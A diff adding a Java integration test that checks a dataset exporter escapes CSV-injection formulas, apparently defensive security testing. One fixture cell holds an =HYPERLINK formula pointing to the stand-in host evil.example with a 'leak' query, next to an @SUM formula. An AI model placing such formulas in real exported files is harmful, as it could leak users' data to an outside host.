@@ -58,6 +58,26 @@ class SourceFormatExportIT extends IntegrationTest {
     }
 
     @Test
+    void itemTextsASpreadsheetWouldRunAsFormulasAreExportedAsText() {
+        logins.signIn(logins.createUser("res", Roles.RESEARCHER));
+        long projectId = projects.create("Formulas", ProjectTemplate.BLANK).id();
+        imports.importItems(
+                projectId,
+                FormatChoice.DETECT,
+                DatasetSource.ofText(
+                        "pairs.csv",
+                        "id,context,option_a,option_b\n"
+                                + "f1,\"=HYPERLINK(\"\"http://evil.example/?leak\"\",\"\"Click me\"\")\",@SUM(A1:A9),-2\n"),
+                null);
+
+        // OWASP "CSV Injection": each formula-like text gets a leading apostrophe, the number -2 stays a number
+        assertThat(export.datasetCsv(projectId))
+                .contains("\"'=HYPERLINK(\"\"http://evil.example/?leak\"\",\"\"Click me\"\")\"", "'@SUM(A1:A9)")
+                .doesNotContain(",=HYPERLINK", ",@SUM")
+                .contains(",-2");
+    }
+
+    @Test
     void importedItemsExportInTheirOwnFormatWithFinalLabelsAndReadBackThroughTheSameImporter() {
         String researcher = logins.createUser("res", Roles.RESEARCHER);
         logins.signIn(researcher);
